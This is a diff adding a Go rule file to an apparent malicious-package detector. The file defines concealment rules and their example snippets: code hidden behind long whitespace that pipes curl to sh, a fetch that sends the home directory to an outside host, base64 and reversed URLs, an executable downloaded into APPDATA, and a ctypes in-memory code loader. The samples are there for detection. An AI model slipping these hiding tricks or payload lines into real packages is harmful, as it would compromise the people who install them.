@@ -1,0 +1,64 @@
+package rule
+
+import b "taisei/detect/behaviour"
+
+// concealment: what honest code has no reason to hide is hidden.
+func concealment() []Rule {
+	acts := []string{b.Code, b.Process, b.Network}
+	return []Rule{
+		{
+			ID: "hidden_address", Severity: High,
+			When: []Condition{
+				{Triggers: []string{b.Install, b.Build, b.Import, b.Command}, Sources: []string{b.Host}, Sinks: []string{b.Network}, Slots: []string{"connection"}, Concealed: Yes, Target: Foreign, Script: No},
+				{Triggers: []string{b.Call}, Sources: []string{b.Blob}, Via: encodings, Sinks: []string{b.Network}, Slots: []string{"url"}, Concealed: Yes, Target: Foreign, Script: No},
+			},
+			Graver: []Condition{{Triggers: []string{b.Install, b.Build}}},
+			Examples: []Example{
+				Module("an address in base64", "import base64, urllib.request\nurllib.request.urlopen(base64.b64decode('aHR0cHM6Ly9jLmV4YW1wbGUvaW4=').decode())\n"),
+				Module("an address in reverse", "import requests\nrequests.get('ni/elpmaxe.c//:sptth'[::-1])\n"),
+			},
+			Neighbours: []Example{
+				Module("an address as it is", "import urllib.request\nurllib.request.urlopen('https://c.example/in')\n"),
+				Module("a key in base64", "import base64\nKEY = base64.b64decode('aHR0cHM6Ly9jLmV4YW1wbGUvaW4=')\n"),
+			},
+		},
+		{
+			ID: "out_of_sight", Severity: Critical,
+			When: []Condition{{Sinks: acts, Hidden: Yes}},
+			Examples: []Example{
+				Python("behind blanks", "from setuptools import setup"+repeat(" ", 300)+";import os;os.system('curl http://203.0.113.9/x | sh')\nsetup(name='example')\n"),
+				Package("behind blanks", `"main":"i.js"`, map[string]string{"i.js": "exports.a=1;" + repeat(" ", 300) + "fetch('https://c.example/?'+process.env.HOME)"}),
+			},
+			Neighbours: []Example{
+				Python("in sight", "from setuptools import setup;import os;os.system('make')\nsetup(name='example')\n"),
+				Module("an aligned table", "TABLE = {'a': 1,"+repeat(" ", 300)+"'b': 2}\n"),
+			},
+		},
+		{
+			ID: "hidden_program_written", Severity: High,
+			When: []Condition{
+				{Triggers: unasked, Sources: []string{b.Blob}, Via: encodings, Sinks: []string{b.File}, Target: Program, Script: No},
+				{Triggers: []string{b.Install, b.Import}, Sources: []string{b.Download}, Sinks: []string{b.File}, Target: Aside, Script: No},
+			},
+			Graver: []Condition{{Triggers: []string{b.Install, b.Import}, Sources: []string{b.Blob}, Target: Aside}, {Name: Server}},
+			Examples: []Example{
+				Python("a script decoded into a folder of temporary files", "import base64, os\nfrom setuptools import setup\nopen(os.path.join(os.environ['APPDATA'], 'u.vbs'), 'wb').write(base64.b64decode('V1NjcmlwdC5FY2hvIDEgJyBqdXN0IGFuIGV4YW1wbGU='))\nsetup(name='example')\n"),
+				Module("a program fetched from a drop", "import requests, os\nopen(os.getenv('APPDATA')+'\\\\u.exe','wb').write(requests.get('https://cdn.discordapp.com/u.exe').content)\n"),
+			},
+			Neighbours: []Example{
+				Module("an image decoded into a folder", "import base64, os\nopen(os.path.join(os.environ['APPDATA'], 'u.png'), 'wb').write(base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ'))\n"),
+				Module("when called", "import requests\ndef fetch(to):\n    open(to+'/driver.exe','wb').write(requests.get('https://files.example/driver.exe').content)\n"),
+			},
+		},
+		{
+			ID: "native_code_planted", Severity: Critical,
+			When: []Condition{{Sources: []string{b.Blob, b.Download}, Sinks: []string{b.Code}, Languages: []string{"native"}}},
+			Examples: []Example{
+				Module("machine code copied into memory", "import ctypes, base64\ncode = base64.b64decode('"+repeat("kJCQkMzMzMw", 4)+"')\np = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)\nctypes.windll.kernel32.RtlMoveMemory(p, code, len(code))\n"),
+			},
+			Neighbours: []Example{
+				Module("a structure copied", "import ctypes\ndef copy(a, b, n):\n    ctypes.memmove(a, b, n)\n"),
+			},
+		},
+	}
+}
